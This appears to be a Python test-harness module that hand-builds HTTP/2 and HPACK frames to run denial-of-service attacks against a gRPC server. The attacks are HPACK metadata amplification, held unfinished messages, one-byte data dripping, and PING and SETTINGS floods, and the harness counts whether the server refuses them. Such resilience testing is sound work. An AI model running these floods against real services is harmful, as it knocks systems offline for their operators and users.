"""Attacks below gRPC: HTTP/2 frames (RFC 9113) and HPACK metadata (RFC 7541), encoded by hand."""

import asyncio
import struct
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable
from contextlib import asynccontextmanager, suppress

from licorne_tools.bench.driver import UPDATE_ALLOCATION
from licorne_tools.bench.isolation.attack import Act, Site

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADER = struct.Struct("!HBBBI")
DATA, HEADERS, SETTINGS, PING, WINDOW_UPDATE = 0x0, 0x1, 0x4, 0x6, 0x8
ACK = END_STREAM = 0x1
END_HEADERS = 0x4
INITIAL_WINDOW, USUAL_WINDOW = 0x4, 65535
"""The setting for the window of a stream, and the value before it is set (RFC 9113 § 6.5.2)."""
LARGEST_FRAME = 16384
DATA_AT_ONCE = 2 * LARGEST_FRAME
"""Number of bytes that are sent together once the window allows it; less than the initial window."""
PING_BYTES = 8

FRAMES = 5_000_000
FRAMES_AT_ONCE = 1000
CONNECTIONS = 5000
ROUNDS = 50
"""Maximum number of connections that one of several attackers makes in succession."""

CALLS = 200_000
CALLS_AT_ONCE = 16
COSTLY = ("a-bin", ",".join(["AA"] * 1333))
"""Metadata of 4,000 bytes with as many values as possible; it fits into HPACK's table."""
NAMED = 4
"""Number of references to this metadata in a call; more would be refused as too large."""
HELD, HELD_BYTES = 100, 4 * 1024 * 1024
DRIPPING = 4
GET_SERVER = "/licorne.v1.State/GetServer"
PREFIX = struct.Struct("!BI")
"""Prefix of a gRPC message: not compressed, and its length."""
MOST_BYTES = 8 * 1024 * 1024


def frame(kind: int, content: bytes = b"", stream: int = 0, flags: int = 0) -> bytes:
    """A frame of a stream, or of the connection (RFC 9113 § 4.1)."""
    return HEADER.pack(len(content) >> 8, len(content) & 0xFF, kind, flags, stream) + content


def number(prefix: int, bits: int, value: int) -> bytes:
    """A number encoded in the last `bits` bits of a byte and further bytes (RFC 7541 § 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([prefix | value])
    rest, value = bytearray([prefix | most]), value - most
    while value >= 0x80:
        rest.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*rest, value])


def text(value: str) -> bytes:
    """A text without compression (RFC 7541 § 5.2)."""
    return number(0, 7, len(value)) + value.encode()


def head(path: str) -> bytes:
    """The head of a call, without metadata. The numbers are those of HPACK's static table."""
    method, scheme, of_path, authority, content_type = 3, 6, 4, 1, 31
    named = ((of_path, path), (authority, "localhost"), (content_type, "application/grpc"))
    literal = b"".join(number(0, 4, index) + text(value) for index, value in named)
    te = number(0, 4, 0) + text("te") + text("trailers")
    return number(0x80, 7, method) + number(0x80, 7, scheme) + literal + te


def costly(*, first: bool) -> bytes:
    """The costly metadata: the first call of a connection adds it to HPACK's table, others refer to it."""
    name, value = COSTLY
    entry = number(0x40, 6, 0) + text(name) + text(value)
    index = number(0x80, 7, 62)
    return entry + index * (NAMED - 1) if first else index * NAMED


class Peer:
    """A connection to the server that respects the flow-control windows."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Greet the server; `read` has to run concurrently."""
        self._reader, self._writer = reader, writer
        self._window = {0: USUAL_WINDOW}
        self._initial = USUAL_WINDOW
        self._room = asyncio.Event()
        self.settled = asyncio.Event()
        """Set when the server has sent its settings."""
        writer.write(PREFACE + frame(SETTINGS))

    def begin(self, stream: int, block: bytes, flags: int = 0) -> bytes:
        """The frame that begins a call, for `write`."""
        self._window[stream] = self._initial
        return frame(HEADERS, block, stream, END_HEADERS | flags)

    async def write(self, frames: bytes) -> None:
        """Send frames without flow control; waits while the server does not read."""
        self._writer.write(frames)
        await self._writer.drain()

    async def data(self, stream: int, content: bytes, size: int) -> None:
        """Send content in frames of `size` bytes, as the windows allow; returns when all of it is sent."""
        step = size * max(1, min(FRAMES_AT_ONCE, DATA_AT_ONCE // size))
        for start in range(0, len(content), step):
            some = content[start : start + step]
            while min(self._window[0], self._window[stream]) < len(some):
                self._room.clear()
                await self._room.wait()
            self._window[0] -= len(some)
            self._window[stream] -= len(some)
            parts = (some[at : at + size] for at in range(0, len(some), size))
            await self.write(b"".join(frame(DATA, part, stream) for part in parts))

    async def read(self) -> None:
        """Update the windows until the server ends the connection."""
        with suppress(asyncio.IncompleteReadError, ConnectionError):
            while True:
                high, low, kind, flags, stream = HEADER.unpack(await self._reader.readexactly(HEADER.size))
                content = await self._reader.readexactly(high << 8 | low)
                if kind == WINDOW_UPDATE:
                    self._more(stream, int.from_bytes(content))
                elif kind == SETTINGS and not flags & ACK:
                    self._set(content)

    def _more(self, stream: int, size: int) -> None:
        if stream in self._window:
            self._window[stream] += size
        self._room.set()

    def _set(self, content: bytes) -> None:
        for setting, value in struct.iter_unpack("!HI", content):
            if setting == INITIAL_WINDOW:
                for stream in self._window.keys() - {0}:
                    self._window[stream] += value - self._initial
                self._initial = value
        self._room.set()
        self.settled.set()
        self._writer.write(frame(SETTINGS, flags=ACK))


Acting = Callable[[Peer], Awaitable[None]]
"""The actions of a peer on a new connection."""


async def connected(site: Site, rounds: int, act: Acting) -> None:
    """Act on `rounds` connections, one after another; each that the server closes is a refusal."""
    host, _, port = site.target.rpartition(":")
    for _ in range(rounds):
        reader, writer = await asyncio.open_connection(host, int(port))
        peer = Peer(reader, writer)
        reading = asyncio.create_task(peer.read())
        acting = asyncio.ensure_future(act(peer))
        try:
            await asyncio.wait((reading, acting), return_when=asyncio.FIRST_COMPLETED)
            if not reading.done():
                # The server has closed the connection during the attack.
                return
            site.refused += 1
        finally:
            for task in (reading, acting):
                task.cancel()
            writer.close()
            await asyncio.wait((reading, acting))


async def at_once(site: Site, connections: Iterable[Acting]) -> None:
    """Act on several connections at a time; each is replaced when the server has closed it."""
    await asyncio.gather(*(connected(site, ROUNDS, act) for act in connections))


def metadata(connections: int) -> Callable[[Site], AsyncIterator[Act]]:
    """Calls with costly metadata over a number of connections."""

    async def act(site: Site, peer: Peer) -> None:
        block = head(GET_SERVER) + costly(first=True)
        for start in range(1, 2 * CALLS, 2 * CALLS_AT_ONCE):
            if site.acts >= site.part(CALLS):
                return
            frames = []
            for stream in range(start, start + 2 * CALLS_AT_ONCE, 2):
                frames.append(peer.begin(stream, block, END_STREAM))
                block = head(GET_SERVER) + costly(first=False)
            await peer.write(b"".join(frames))
            site.acts += CALLS_AT_ONCE

    async def attack(site: Site) -> AsyncIterator[Act]:
        yield lambda: at_once(site, [lambda peer: act(site, peer)] * connections)

    return attack


one_costly = asynccontextmanager(metadata(1))
many_costly = asynccontextmanager(metadata(20))


@asynccontextmanager
async def unfinished(site: Site) -> AsyncIterator[Act]:
    """Messages of 4 MiB over many connections; the last bytes are never sent."""

    async def hold(peer: Peer) -> None:
        await peer.write(peer.begin(1, head(GET_SERVER)))
        await peer.data(1, PREFIX.pack(0, HELD_BYTES + 1) + bytes(HELD_BYTES), LARGEST_FRAME)
        site.acts += 1
        await asyncio.Event().wait()

    yield lambda: at_once(site, [hold] * site.part(HELD))


@asynccontextmanager
async def dripping(site: Site) -> AsyncIterator[Act]:
    """Messages in frames of one byte, over four connections."""

    async def drip(peer: Peer) -> None:
        await peer.write(peer.begin(1, head(UPDATE_ALLOCATION)))
        await peer.data(1, PREFIX.pack(0, MOST_BYTES), PREFIX.size)
        part = bytes(FRAMES_AT_ONCE)
        for _ in range(MOST_BYTES // FRAMES_AT_ONCE - 1):
            if site.acts >= site.part(FRAMES):
                return
            await peer.data(1, part, 1)
            site.acts += FRAMES_AT_ONCE

    yield lambda: at_once(site, [drip] * DRIPPING)


@asynccontextmanager
async def ping(site: Site) -> AsyncIterator[Act]:
    """PING frames as fast as the server reads them, on a new connection whenever it closes one."""
    yield lambda: flood(site, frame(PING, bytes(PING_BYTES)))


@asynccontextmanager
async def settings(site: Site) -> AsyncIterator[Act]:
    """Empty SETTINGS frames as fast as the server reads them, on a new connection whenever it closes one."""
    yield lambda: flood(site, frame(SETTINGS))


async def flood(site: Site, one: bytes) -> None:
    """Send a frame repeatedly; a connection closed by the server counts as a refusal."""

    async def send(peer: Peer) -> None:
        while site.acts < site.part(FRAMES):
            await peer.write(one * FRAMES_AT_ONCE)
            site.acts += FRAMES_AT_ONCE

    await connected(site, site.part(CONNECTIONS), send)
